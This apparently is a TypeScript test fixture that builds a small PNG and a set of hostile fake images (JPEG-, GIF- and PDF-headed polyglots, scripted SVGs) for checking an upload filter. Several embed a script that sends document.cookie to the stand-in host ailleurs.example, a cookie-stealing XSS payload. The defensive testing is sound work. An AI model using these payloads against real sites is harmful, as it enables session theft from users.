import { Buffer } from 'node:buffer';
import { crc32 } from 'node:zlib';

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
};

/** A tiny PNG that declares these dimensions. */
export function pngClaiming(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', Buffer.from('789c6300010000000500010d0a2db4', 'hex')),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const SCRIPT = '<script>fetch("https://ailleurs.example/" + document.cookie)</script>';

/** Built in memory: none of them is stored in the repository. */
export const HOSTILE_IMAGES = {
  'HTML under the first bytes of a JPEG': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(`<html>${SCRIPT}</html>`)]),
  'plain HTML': Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`),
  'SVG with a script': Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">${SCRIPT}<foreignObject><iframe/></foreignObject></svg>`,
  ),
  'SVG after an XML declaration': Buffer.from(
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect/></svg>',
  ),
  'GIF that is also a script': Buffer.from('GIF89a=1;/*\u0000*/alert(document.cookie)'),
  'PDF that is HTML': Buffer.from(`%PDF-1.4\n<html>${SCRIPT}</html>`),
  'ZIP archive': Buffer.from('504b0506000000000000000000000000000000000000', 'hex'),
  'TIFF header': Buffer.from('49492a0008000000000000000000', 'hex'),
  'HEIC header': Buffer.from('0000001866747970686569630000000068656963' + '6d696631', 'hex'),
  'plain text': Buffer.from('photo'),
} as const satisfies Record<string, Buffer>;
